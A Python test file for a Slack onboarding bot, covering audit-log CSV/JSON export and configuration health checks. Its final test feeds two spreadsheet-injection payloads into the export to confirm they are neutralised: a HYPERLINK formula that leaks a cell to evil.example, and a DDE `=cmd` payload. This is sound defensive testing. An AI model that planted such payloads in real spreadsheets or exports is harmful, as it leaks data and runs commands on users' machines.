"""`python -m bot export` and `python -m bot check`."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import httpx
from slack_sdk import WebClient

from bot.ops.check import run_checks
from bot.ops.export import COLUMNS, export_audit
from bot.slack.ids import ActionId
from sinch.sandbox import make_app
from tests.bot.harness import LEAD, SANDBOX, BotHarness


def test_export_writes_every_audit_event_as_csv_and_json(bot: BotHarness) -> None:
    bot.submit_intake()
    bot.click(LEAD, ActionId.APPROVE)
    out = io.StringIO()
    assert export_audit(bot.deps.engine, out) == 2
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert tuple(rows[0]) == COLUMNS
    assert [(r["action"], r["from_state"], r["to_state"], r["actor"]) for r in rows] == [
        ("submit", "", "awaiting_approval", "U0REQ"),
        ("approve", "awaiting_approval", "creating_project", LEAD),
    ]
    assert rows[0]["customer_name"] == "Acme Bikes"
    out = io.StringIO()
    export_audit(bot.deps.engine, out, fmt="json")
    assert [event["action"] for event in json.loads(out.getvalue())] == ["submit", "approve"]


def env_for(bot: BotHarness, **overrides: str) -> dict[str, str]:
    env = {
        "SLACK_BOT_TOKEN": bot.slack_state.bot_token,
        "SLACK_SIGNING_SECRET": "x" * 20,
        "SLACK_API_URL": bot.slack.url,
        "ONBOARDING_CHANNEL": "C0ONBOARD",
        "APPROVERS": LEAD,
        "BOT_SECRET_KEY": bot.settings.bot_secret_key.reveal(),
        "DATABASE_URL": bot.settings.database_url,
        "SINCH_AUTH_URL": SANDBOX,
        "SINCH_CONVERSATION_URL": f"{SANDBOX}/conversation/{{region}}",
        "SINCH_PROVISIONING_URL": f"{SANDBOX}/provisioning",
    }
    env.update(overrides)
    return env


def check(bot: BotHarness, env: dict[str, str]) -> tuple[bool, list[str]]:
    out = io.StringIO()
    ok = run_checks(env, out, sinch_transport=httpx.WSGITransport(app=bot.sandbox_app),
                    slack_client=lambda s: WebClient(token=s.slack_bot_token.reveal(), base_url=s.slack_api_url))
    return ok, out.getvalue().splitlines()


def test_check_passes_with_good_settings_and_a_real_key(bot: BotHarness) -> None:
    creds = bot.sandbox.create_project("Ours", "us")
    ok, lines = check(bot, env_for(bot, SINCH_KEY_ID=creds.key_id, SINCH_KEY_SECRET=creds.key_secret))
    assert ok, lines
    assert [line[:4].strip() for line in lines] == ["ok"] * 8
    assert [line[6:20].strip() for line in lines] == ["configuration", "database", "slack", "slack scopes",
                                                      "slack channel", "approver users", "approvers", "sinch"]


def test_check_names_missing_scopes_a_channel_without_the_bot_and_an_empty_approver_group(bot: BotHarness) -> None:
    bot.slack_state.scopes = ["commands", "chat:write"]
    bot.slack_state.add_channel("C0ONBOARD", is_member=False)
    bot.slack_state.add_usergroup("S0EMPTY", [])
    ok, lines = check(bot, env_for(bot, APPROVERS=f"{LEAD},S0EMPTY"))
    assert not ok
    failed = {line[6:20].strip(): line for line in lines if line.startswith("FAIL")}
    assert set(failed) == {"slack scopes", "slack channel", "approvers"}
    assert "channels:history, groups:history, usergroups:read" in failed["slack scopes"]
    assert "/invite" in failed["slack channel"] and "S0EMPTY" in failed["approvers"]


def test_check_opens_no_connection_but_proves_the_app_token_in_socket_mode(bot: BotHarness) -> None:
    from devslack.socket_mode import SocketModeServer

    with SocketModeServer() as hub:
        bot.slack_state.socket_mode = hub
        ok, lines = check(bot, env_for(bot, SLACK_APP_TOKEN=bot.slack_state.app_token))
        assert ok and any(line.startswith("ok    socket mode") for line in lines), lines
        ok, lines = check(bot, env_for(bot, SLACK_APP_TOKEN="xapp-1-junk"))
        assert not ok
        assert any(line.startswith("FAIL  socket mode") and "invalid_auth" in line for line in lines), lines
        assert hub.connections == []


def test_check_says_which_database_driver_is_missing(tmp_path: Path) -> None:
    out = io.StringIO()
    run_checks({"DATABASE_URL": "postgresql+pg8000://bot@127.0.0.1/bot"}, out,
               sinch_transport=httpx.WSGITransport(app=make_app()))
    database = out.getvalue().splitlines()[1]
    assert database.startswith("FAIL") and "'pg8000'" in database and "not installed" in database


def test_check_without_a_key_only_probes_the_token_endpoint(bot: BotHarness) -> None:
    ok, lines = check(bot, env_for(bot))
    assert ok, lines
    assert "set SINCH_KEY_ID" in lines[-1]


def test_check_fails_clearly_for_a_wrong_slack_token(bot: BotHarness) -> None:
    ok, lines = check(bot, env_for(bot, SLACK_BOT_TOKEN="xoxb-wrong-token"))
    assert not ok
    slack = next(line for line in lines if " slack " in f" {line} ")
    assert slack.startswith("FAIL") and "invalid_auth" in slack and "SLACK_BOT_TOKEN" in slack


def test_check_fails_clearly_for_a_wrong_sinch_key(bot: BotHarness) -> None:
    creds = bot.sandbox.create_project("Ours", "us")
    ok, lines = check(bot, env_for(bot, SINCH_KEY_ID=creds.key_id, SINCH_KEY_SECRET="wrong-secret"))
    assert not ok
    assert lines[-1].startswith("FAIL") and "refused" in lines[-1]
    assert "wrong-secret" not in "\n".join(lines)


def test_check_reports_every_configuration_problem_and_an_unmigrated_database(database_url: str) -> None:
    out = io.StringIO()
    ok = run_checks({"DATABASE_URL": database_url}, out,
                    sinch_transport=httpx.WSGITransport(app=make_app()))
    lines = out.getvalue().splitlines()
    assert not ok
    assert lines[0].startswith("FAIL") and "SLACK_BOT_TOKEN" in lines[0] and "APPROVERS" in lines[0]
    assert lines[1].startswith("FAIL") and "python -m bot migrate" in lines[1]


def test_check_reports_an_unreachable_postgresql_server_without_a_traceback_or_password() -> None:
    out = io.StringIO()
    # Port 1 on loopback: nothing listens there.
    ok = run_checks({"DATABASE_URL": "postgresql+psycopg://bot:hunter2@127.0.0.1:1/onboarding"}, out,
                    sinch_transport=httpx.WSGITransport(app=make_app()))
    text = out.getvalue()
    database = next(line for line in text.splitlines() if "database" in line)
    assert not ok and database.startswith("FAIL") and "nothing accepts connections at 127.0.0.1:1" in database
    assert "hunter2" not in text and "Traceback" not in text


def test_csv_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(bot: BotHarness) -> None:
    name = '=HYPERLINK("https://evil.example/?x="&A1,"open")'
    reason = "=cmd|' /C calc'!A0"
    bot.submit_intake(customer_name=name)
    bot.click(LEAD, ActionId.REJECT)
    bot.submit_modal(LEAD, {"reason": reason})
    out = io.StringIO()
    export_audit(bot.deps.engine, out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert {row["customer_name"] for row in rows} == {"'" + name}
    assert any(row["detail"].startswith("'=cmd|") for row in rows)
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    out = io.StringIO()
    export_audit(bot.deps.engine, out, fmt="json")
    assert {event["customer_name"] for event in json.loads(out.getvalue())} == {name}  # JSON is data: unchanged
